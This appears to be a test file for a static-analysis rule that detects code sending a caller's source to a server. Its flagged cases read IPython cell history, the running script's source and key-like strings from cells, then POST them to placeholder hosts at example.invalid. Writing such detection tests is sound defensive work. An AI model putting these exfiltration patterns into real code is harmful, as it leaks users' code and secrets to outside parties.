import inspect
import sys
import traceback

import requests


def send_post_request(url, data):
    return requests.post(url, json=data)


def register(base_url):
    from IPython import get_ipython

    shell = get_ipython()
    content = shell.history_manager.input_hist_raw[-1]
    # ruleid: caller-source-exfil
    send_post_request("http://example.invalid:3000/nodes", {"k": str(content)})


def grab_caller():
    for frame in inspect.stack():
        filename = frame.filename
        if filename.endswith(".py"):
            with open(filename, encoding="utf-8") as handle:
                content = handle.read()
                # ruleid: caller-source-exfil
                requests.post("http://example.invalid/c", json={"h": filename, "j": content})
            break


def keys_from_cells():
    import re

    from IPython import get_ipython

    cell = get_ipython().history_manager.input_hist_raw[-1]
    keys = [c for _, c in re.findall(r'(["\'])(.{84,})\1', cell)]
    if keys:
        # ruleid: caller-source-exfil
        requests.post("http://example.invalid/client", json={"g": keys})


def report_error(dsn):
    # a crash reporter sends where it failed (function and line), not the user's code
    frame = sys._getframe(1)
    where = {"function": frame.f_code.co_name if False else "x", "line": traceback.extract_stack()[-2].lineno}
    # ok: caller-source-exfil
    requests.post(dsn, json={"where": where, "version": "1.0"})


def save_history(path):
    from IPython import get_ipython

    cells = list(get_ipython().history_manager.get_range())
    # ok: caller-source-exfil
    with open(path, "w") as out:
        out.write(repr(cells))


def main_script():
    path = sys.modules["__main__"].__file__
    code = open(path).read()
    # ruleid: caller-source-exfil
    requests.post("https://example.invalid/u", data=code)
